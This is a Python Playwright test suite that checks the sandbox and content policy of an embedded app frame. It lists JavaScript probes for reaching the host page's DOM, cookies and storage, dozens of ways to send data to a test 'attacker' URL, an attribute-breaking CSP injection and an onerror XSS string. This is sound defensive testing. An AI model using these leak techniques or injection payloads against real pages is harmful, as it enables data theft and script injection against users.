"""A hostile app: what it can reach, and where it can send it."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import FrameLocator, Page, expect

Open = Callable[..., Page]
App = Callable[..., str]
Inner = Callable[[], FrameLocator]

#: Each expression must throw or give a falsy value inside the frame.
REACHES = {
    "parent DOM": "parent.document.body",
    "page DOM": "parent.parent.document.body",
    "top DOM": "top.document.body",
    "top globals": "top.model",
    "frame element": "window.frameElement",
    "cookies": "document.cookie",
    "local storage of the page": "localStorage.getItem('of-the-page')",
    "session storage of the page": "sessionStorage.getItem('of-the-page')",
    "real storage behind the imitation": "delete window.localStorage && localStorage",
    "indexed db": "await new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = () => no(r.error) })",
    "cache storage": "await caches.open('x')",
    "service worker": "await navigator.serviceWorker.register('/sw.js')",
    "popup": "window.open('about:blank')",
    "eval": "eval('1')",
    "clipboard": "(await navigator.clipboard.writeText('x'), true)",
    "page address": "document.baseURI.includes('127.0.0.1') || document.referrer",
    "dialog": "confirm('?')",
}

#: Each must leave no trace at the attacker's; URL is the attacker's address.
LEAKS = {
    "fetch": "await fetch(URL + '/fetch', {mode: 'no-cors'})",
    "xhr": "await new Promise((yes) => { const x = new XMLHttpRequest(); x.onloadend = yes; x.open('GET', URL + '/xhr'); x.send() })",
    "beacon": "navigator.sendBeacon(URL + '/beacon', 'x')",
    "image": "new Image().src = URL + '/img'",
    "script": "document.body.append(Object.assign(document.createElement('script'), {src: URL + '/js'}))",
    "stylesheet": "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: URL + '/css'}))",
    "prefetch": "document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: URL + '/prefetch'}))",
    "css image": "document.body.style.backgroundImage = `url(${URL}/bg)`",
    "font": "await new FontFace('x', `url(${URL}/font)`).load()",
    "websocket": "new WebSocket(URL.replace('http', 'ws') + '/ws')",
    "event source": "new EventSource(URL + '/events')",
    "worker": "new Worker(window.URL.createObjectURL(new Blob([`fetch('${URL}/worker', {mode: 'no-cors'})`])))",
    "nested frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: URL + '/frame'}))",
    "srcdoc frame that moves": "document.body.append(Object.assign(document.createElement('iframe'), {srcdoc: `<script>location = '${URL}/nested'</scr` + `ipt>`}))",
    "location": "location = URL + '/location'",
    "location.replace": "location.replace(URL + '/replace')",
    "link": "Object.assign(document.body.appendChild(document.createElement('a')), {href: URL + '/link'}).click()",
    "link to a new tab": "Object.assign(document.body.appendChild(document.createElement('a')), {href: URL + '/blank', target: '_blank'}).click()",
    "link to top": "Object.assign(document.body.appendChild(document.createElement('a')), {href: URL + '/top', target: '_top'}).click()",
    "link with ping": "Object.assign(document.body.appendChild(document.createElement('a')), {href: '#x', ping: URL + '/ping'}).click()",
    "meta refresh": "document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'refresh', content: '0;url=' + URL + '/refresh'}))",
    "form": "Object.assign(document.body.appendChild(document.createElement('form')), {action: URL + '/form'}).submit()",
    "form to top": "Object.assign(document.body.appendChild(document.createElement('form')), {action: URL + '/formtop', target: '_top'}).submit()",
    "parent location": "parent.location = URL + '/parent'",
    "page location": "top.location = URL + '/page'",
    "base": "document.head.append(Object.assign(document.createElement('base'), {href: URL})); new Image().src = 'based'",
    "document.write": "document.write(`<img src=${URL}/written>`)",
    "open self": "window.open(URL + '/self', '_self')",
}


@pytest.mark.parametrize("name", REACHES)
def test_out_of_reach(bare: Page, open_app: Open, app: App, inner: Inner, name: str) -> None:
    # In the app's own script: what the test driver evaluates is not bound by the policy.
    probe = f"""const probe = async () => {{
      let got = false;
      try {{ const found = {REACHES[name]}; got = Boolean(found) }} catch {{}}
      document.body.append(Object.assign(document.createElement("p"), {{id: "probe", textContent: `reached: ${{got}}`}}));
    }}; setTimeout(probe, 30)"""
    bare.evaluate("() => { localStorage['of-the-page'] = sessionStorage['of-the-page'] = 'secret' }")
    open_app(app(probe))
    expect(inner().locator("#probe")).to_have_text("reached: false")


@pytest.mark.parametrize("name", LEAKS)
def test_nothing_leaves(open_app: Open, app: App, attacker: Any, name: str) -> None:
    attack = f"setTimeout(async () => {{ const URL = '{attacker.url}'; try {{ {LEAKS[name]} }} catch {{}} }}, 50)"
    page = open_app(app(attack))
    page.wait_for_timeout(450)
    assert attacker.hits == []
    assert page.url.startswith("http://127.0.0.1:")
    assert page.evaluate("() => document.title") == "bare page"
    assert len(page.context.pages) == 1


def test_the_attacks_do_work_without_the_policy(open_app: Open, app: App, attacker: Any) -> None:
    """The listener hears what gets out: otherwise the tests above would prove nothing."""
    loose = "default-src * 'unsafe-inline' data: blob:; frame-src *"
    page = open_app(
        app(f"fetch('{attacker.url}/fetch', {{mode: 'no-cors'}}); location = '{attacker.url}/location'"),
        resource={"csp": loose},
    )
    page.wait_for_timeout(500)
    assert {"GET /fetch", "GET /location"} <= set(attacker.hits)


def test_frames_have_exactly_the_sandbox(open_app: Open, app: App) -> None:
    page = open_app(app(), resource={"allow": "camera; clipboard-write"})
    outer = page.locator("#cell iframe.pmcp-app-frame")
    inner = page.frame_locator("#cell iframe.pmcp-app-frame").locator("iframe")
    for frame in (outer, inner):
        expect(frame).to_have_attribute("sandbox", "allow-scripts allow-forms")
        expect(frame).to_have_attribute("referrerpolicy", "no-referrer")
        expect(frame).to_have_attribute("allow", "camera; clipboard-write")


def test_html_arrives_as_it_is(open_app: Open, inner: Inner) -> None:
    html = "<!-- <head> --><p id=a>\"quoted\" 'single' &amp; </script> ${x} `tick` \\ \u2028 é</p>"
    page = open_app(html)
    expect(inner().locator("#a")).to_contain_text("tick")
    frame = page.frame_locator("#cell iframe.pmcp-app-frame").locator("iframe")
    document = frame.evaluate("(node) => node.srcdoc")
    assert document.endswith(f"</script>{html}")
    assert document.count("</script>") == 2, "one script of ours before it, and what the app itself has"


def test_hostile_policy_stays_in_its_attribute(open_app: Open, app: App, attacker: Any) -> None:
    csp = f"default-src 'none'\"><script>fetch('{attacker.url}/csp')</script><meta content=\""
    page = open_app(app(), resource={"csp": csp})
    page.wait_for_timeout(300)
    assert attacker.hits == []


def test_hostile_names_are_text(open_app: Open, app: App) -> None:
    evil = '<img src=x onerror="window.hacked = true">'
    page = open_app(
        app(),
        resource={"name": evil},
        _call={"tool": {"name": evil}, "arguments": {}, "result": None, "cancelled": None, "error": evil},
    )
    expect(page.locator(".pmcp-app-name")).to_have_text(evil)
    expect(page.locator(".pmcp-bar-detail")).to_have_text(evil)
    assert page.evaluate("() => window.hacked") is None
